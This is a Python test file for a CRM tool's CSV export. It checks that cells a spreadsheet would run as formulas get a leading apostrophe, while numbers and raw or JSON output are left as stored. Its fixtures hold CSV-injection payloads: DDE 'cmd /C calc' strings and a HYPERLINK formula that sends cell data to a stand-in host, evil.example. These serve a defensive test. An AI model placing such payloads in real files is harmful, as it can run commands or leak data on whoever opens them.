"""CSV exports are safe to open in a spreadsheet (issue 17, item 4): text cells a spreadsheet would
run as a formula get a leading `'` (OWASP), numbers stay numbers, `--raw` / `?raw=true` keep all."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pyarrow as pa
import pytest
from typer.testing import CliRunner

from accountree.cli import app
from accountree.export_formats import neutralise, safe_cell
from accountree.ingest import import_bundle
from accountree.store import open_workspace
from tests.conftest import write

PAYLOADS = {
    "X1": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "X2": "+cmd|' /C calc'!A0",
    "X3": "-2+3+cmd|' /C calc'!A0",
    "X4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "X5": "\t=1+1",
    "X6": "\r=1+1",
}
ACCOUNTS = ("account_id,name,city,country,annual_revenue,employees\n"
            + "".join(f'{k},"{v.replace(chr(34), chr(34) * 2)}",Paris,FR,1000,10\n' for k, v in PAYLOADS.items())
            + "N1,Normal SA,-12.5,FR,-12.5,5\n"      # a negative figure, and a city that is a plain number
            + "N2,Société Générale,Lyon,FR,,\n")


@pytest.fixture
def ws_path(tmp_path: Path) -> Path:
    write(tmp_path / "bundle" / "accounts.csv", ACCOUNTS)
    write(tmp_path / "bundle" / "deals.csv", "deal_id,account_id,stage,amount,close_date,owner\n"
                                            "D1,N1,won,-12.5,2026-01-10,=evil()\nD2,X1,won,100,2026-02-01,Jean\n")
    path = tmp_path / "w.duckdb"
    ws = open_workspace(str(path))
    try:
        import_bundle(ws, [str(tmp_path / "bundle")])
    finally:
        ws.close()
    return path


def _read(path: Path) -> str:
    return path.open(encoding="utf-8", newline="").read()  # a CR inside a cell stays a CR


def _rows(text: str, key: str = "account_id") -> dict[str, dict[str, str]]:
    return {r[key]: r for r in csv.DictReader(io.StringIO(text))}


def test_safe_cell_and_neutralise_rules():
    assert [safe_cell(v) for v in ("=1", "+1+1", "-A", "@x", "\tx", "\rx", "ok", "-12.5", "+33", "1e5", None, 3)] == [
        "'=1", "'+1+1", "'-A", "'@x", "'\tx", "'\rx", "ok", "-12.5", "+33", "1e5", None, 3]
    batch = pa.record_batch({"t": ["=1", "-12.5", None, "a=b"], "f": [-1.5, -12.5, None, 2.0],
                             "d": [dt.date(2026, 1, 1)] * 4, "i": [-1, -2, 3, 4]})
    out = neutralise(batch)
    assert out.column("t").to_pylist() == ["'=1", "-12.5", None, "a=b"]
    assert out.schema == batch.schema
    assert out.column("f").to_pylist() == [-1.5, -12.5, None, 2.0] and out.column("i").to_pylist() == [-1, -2, 3, 4]


def test_cli_csv_export_neutralises_formulas_and_raw_keeps_them(ws_path: Path, tmp_path: Path):
    runner = CliRunner()
    out = tmp_path / "accounts.csv"
    done = runner.invoke(app, ["export", "accounts", "--format", "csv", "--out", str(out), "--workspace", str(ws_path)])
    assert done.exit_code == 0, done.output
    rows = _rows(_read(out))
    for key, payload in PAYLOADS.items():
        assert rows[key]["name"] == "'" + payload, key
    assert rows["N1"]["annual_revenue"] == "-12.5" and rows["N1"]["city"] == "-12.5"  # numbers stay numbers
    assert rows["N2"]["name"] == "Société Générale"
    deals = tmp_path / "deals.csv"
    runner.invoke(app, ["export", "deals", "--out", str(deals), "--workspace", str(ws_path)])
    d = _rows(_read(deals), "deal_id")
    assert (d["D1"]["amount"], d["D1"]["owner"]) == ("-12.5", "'=evil()")
    raw = tmp_path / "raw.csv"
    done = runner.invoke(app, ["export", "accounts", "--raw", "--out", str(raw), "--workspace", str(ws_path)])
    assert done.exit_code == 0, done.output
    assert {k: r["name"] for k, r in _rows(_read(raw)).items() if k in PAYLOADS} == PAYLOADS
    # JSON is for programs: values as stored
    js = runner.invoke(app, ["export", "accounts", "--format", "json", "--workspace", str(ws_path)])
    assert PAYLOADS["X1"].replace('"', '\\"') in js.stdout


def test_api_csv_export_neutralises_and_raw_true_keeps(ws_path: Path):
    from fastapi.testclient import TestClient

    from accountree.api import create_app
    from accountree.api.auth import add_user, new_token

    ws = open_workspace(str(ws_path))
    try:
        add_user(ws, "admin", "admin", "correct-horse-42", None)
        headers = {"Authorization": f"Bearer {new_token(ws, 'admin')}"}
        with TestClient(create_app(ws), raise_server_exceptions=False) as client:
            safe = client.get("/api/v1/exports/accounts?format=csv", headers=headers)
            assert safe.status_code == 200, safe.text
            rows = _rows(safe.text)
            assert {k: rows[k]["name"] for k in PAYLOADS} == {k: "'" + v for k, v in PAYLOADS.items()}
            assert rows["N1"]["annual_revenue"] == "-12.5"
            raw = _rows(client.get("/api/v1/exports/accounts?format=csv&raw=true", headers=headers).text)
            assert {k: raw[k]["name"] for k in PAYLOADS} == PAYLOADS
    finally:
        ws.close()


def test_crm_write_back_file_is_neutralised(tmp_path: Path):
    from accountree.build import BuildOptions, build
    from accountree.scoring.crm import export_crm_file

    write(tmp_path / "b" / "accounts.csv", "account_id,name,parent_id,country\n=P1,Evil parent,,FR\nC1,Child,=P1,FR\n")
    ws = open_workspace(str(tmp_path / "c.duckdb"))
    try:
        import_bundle(ws, [str(tmp_path / "b")])
        build(ws, BuildOptions(as_of=dt.date(2026, 11, 23), stages=["hierarchy", "scores"]))
        export_crm_file(ws, "salesforce", tmp_path / "sf.csv")
        rows = {r["Id"]: r for r in csv.DictReader((tmp_path / "sf.csv").open(encoding="utf-8"))}
        assert rows["C1"]["ParentId"] == "'=P1" and rows["'=P1"]["Group_Head__c"] == "'=P1"
        export_crm_file(ws, "salesforce", tmp_path / "raw.csv", raw=True)
        raw = {r["Id"]: r for r in csv.DictReader((tmp_path / "raw.csv").open(encoding="utf-8"))}
        assert raw["C1"]["ParentId"] == "=P1"
    finally:
        ws.close()


def test_import_problem_report_never_runs_the_bad_values(tmp_path: Path):
    """The --report CSV quotes the bad values users then open in a spreadsheet to fix them."""
    write(tmp_path / "b" / "deals.csv", "deal_id,account_id,stage,amount\nD1,X,won,=1+cmd|' /C calc'!A0\n")
    report = tmp_path / "problems.csv"
    done = CliRunner().invoke(app, ["import", str(tmp_path / "b"), "-w", str(tmp_path / "w.duckdb"),
                                    "--report", str(report)])
    assert done.exit_code == 2
    values = [r["value"] for r in csv.DictReader(io.StringIO(_read(report)))]
    assert "'=1+cmd|' /C calc'!A0" in values and not [v for v in values if v.startswith("=")]
